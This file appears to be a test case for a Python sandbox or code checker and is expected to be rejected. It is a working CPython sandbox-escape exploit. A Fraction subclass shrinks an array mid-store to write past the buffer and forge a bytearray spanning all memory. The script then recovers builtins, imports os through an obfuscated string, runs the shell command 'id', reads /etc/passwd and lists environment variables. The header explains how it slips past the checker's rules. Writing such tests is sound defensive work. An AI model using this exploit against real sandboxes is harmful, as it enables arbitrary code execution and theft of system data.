# expect: reject memory
# line: 30
# why: round 77: an array store converts a Fraction subclass with numbers.Rational.__float__ (library Python) after fixing the index; its numerator property shrinks the array: a chosen word written past the buffer, then id (verified under 3.11.2)
# mechanism: array rule gap: a 'd' array store converts with __float__, and for a fractions.Fraction subclass that is numbers.Rational.__float__ (library Python) reading the program's numerator property, which shrinks the array after the store fixed its index (the rule only refuses __index__/__int__/__float__/__trunc__ defs); the getter passes the comparison-purity judgement by running its impure code in a generator via map(next, [GEN]) (ok04's hole). The 8-byte write lands on a neighbouring list's ob_item: forged bytearray over all memory.
import array
import fractions


def w8(v):
    return v.to_bytes(8, "little")


pre = [[i] for i in range(20000)]      # 64-byte list objects laid out one after another
filler = [[i] for i in range(200)]
WORD = [0]
SPOT = [0]
fake_ba = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])


def shrink():
    del filler[:]                      # fills the list free list, so the next free goes to pymalloc
    pre[SPOT[0]] = None                # a hole in a full pool: the next 64-byte block handed out
    del arr[1:]                        # 1 + 7 spare items: a 64-byte buffer, in that hole
    yield 0


GEN = shrink()


class Ratio(fractions.Fraction):
    @property
    def numerator(self):
        return max(WORD[0], len(list(map(next, [GEN]))))

    @property
    def denominator(self):
        return 1 << 1074


v = 10000
while not (id(pre[v + 1]) - id(pre[v]) == 64 and id(pre[v]) - id(pre[v - 1]) == 64):
    v += 1
SPOT[0] = v
arr = array.array("d", [0.0] * 60)
items = w8(id(fake_ba) + 32) * 4
WORD[0] = id(items) + 32
arr[13] = Ratio(1)                     # 64 + 40 bytes past the new buffer: the next list's ob_item
mem = pre[v + 1][0]
print("forged:", type(mem).__name__, "array length now", len(arr))
a = id(w8) + 24
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print("environ:", sorted(osm.environ)[:8], len(osm.environ))
